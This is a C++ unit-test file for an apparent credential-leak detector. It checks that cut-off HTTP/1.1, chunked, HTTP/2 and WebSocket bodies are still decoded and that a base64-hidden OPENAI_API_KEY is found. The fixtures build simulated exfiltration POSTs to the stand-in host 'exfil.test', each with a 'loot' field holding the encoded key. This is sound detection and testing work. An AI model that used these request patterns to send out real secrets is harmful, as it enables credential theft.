// What a connection's end cuts off is still decoded whole: an HTTP/1.1 body shorter than its
// Content-Length, an HTTP/2 stream never ended, a WebSocket message whose last fragment never
// came. Their JSON, base64 and compression are decoded with the bytes that arrived, and each is
// counted (decoder_bodies_cut_at_end, decoder_websocket_truncated).
#include <gtest/gtest.h>

#include "egress_writes.h"
#include "compress_support.h"
#include "websocket_frames.h"

namespace credsentry::stream::decoders {
namespace {

using testing::Base64;
using testing::DecodeWrites;
using testing::H2Frame;
using testing::kH2ClientStart;
using testing::RandomToken;
using testing::WebSocketFrame;
using testing::WebSocketUpgrade;

// JSON whose one field holds the key base64-coded: found only by decoding the whole body.
std::string Loot(const std::string& token) {
  return R"({"host":"runner-7","loot":")" + Base64("OPENAI_API_KEY=" + token) + R"(","more":")";
}

TEST(StreamEnd, Http1BodyShorterThanItsLengthIsDecodedWithWhatCame) {
  const std::string token = RandomToken(), body = Loot(token);
  const std::string head = "POST /c HTTP/1.1\r\nHost: exfil.test\r\nContent-Type: application/json"
                           "\r\nContent-Length: 4000\r\n\r\n";
  auto d = DecodeWrites({head, body});
  const auto* unit = d.recorder.Find(token, "decoded.base64");
  ASSERT_NE(unit, nullptr);
  // The JSON is cut too: its base64 run is found in the body's text.
  EXPECT_EQ(unit->decoding, (std::vector<std::string>{"http1", "base64"}));
  EXPECT_EQ(d.counters.bodies_cut_at_end, 1u);
  // A whole request leaves nothing open at the end.
  const std::string whole = "POST /c HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: 2\r\n\r\n{}";
  EXPECT_EQ(DecodeWrites({whole}).counters.bodies_cut_at_end, 0u);
}

TEST(StreamEnd, Http1ChunkedBodyCutInAChunkIsDecodedWithWhatCame) {
  const std::string token = RandomToken(), body = Loot(token);
  char size[16];
  std::snprintf(size, sizeof size, "%zx\r\n", body.size() + 100);
  auto d = DecodeWrites({"POST /c HTTP/1.1\r\nHost: exfil.test\r\nContent-Type: application/json"
                         "\r\nTransfer-Encoding: chunked\r\n\r\n" + std::string(size) + body});
  EXPECT_NE(d.recorder.Find(token, "decoded.base64"), nullptr);
  EXPECT_EQ(d.counters.bodies_cut_at_end, 1u);
}

TEST(StreamEnd, Http2StreamNeverEndedIsDecodedWithWhatCame) {
  const std::string token = RandomToken();
  const std::string block = testing::H2Literal(":method", "POST") +
                            testing::H2Literal(":scheme", "https") +
                            testing::H2Literal(":path", "/c") +
                            testing::H2Literal(":authority", "exfil.test") +
                            testing::H2Literal("content-type", "application/json");
  const std::string wire = kH2ClientStart + H2Frame(0x1, 0x4, 1, block) +  // END_HEADERS only
                           H2Frame(0x0, 0, 1, Loot(token));                // no END_STREAM
  auto d = DecodeWrites({wire});
  const auto* unit = d.recorder.Find(token, "decoded.base64");
  ASSERT_NE(unit, nullptr);
  EXPECT_EQ(unit->decoding.front(), "h2");
  EXPECT_EQ(d.counters.bodies_cut_at_end, 1u);
}

TEST(StreamEnd, WebSocketMessageWithoutItsLastFragmentIsDecodedWithWhatCame) {
  const std::string token = RandomToken();
  const std::string first = WebSocketFrame(Loot(token), {.opcode = 0x1, .fin = false});
  auto d = DecodeWrites({WebSocketUpgrade(), first});
  const auto* unit = d.recorder.Find(token, "decoded.base64");
  ASSERT_NE(unit, nullptr);
  EXPECT_EQ(unit->decoding, (std::vector<std::string>{"http1", "websocket", "base64"}));
  EXPECT_EQ(d.counters.websocket_truncated, 1u);
}

}  // namespace
}  // namespace credsentry::stream::decoders
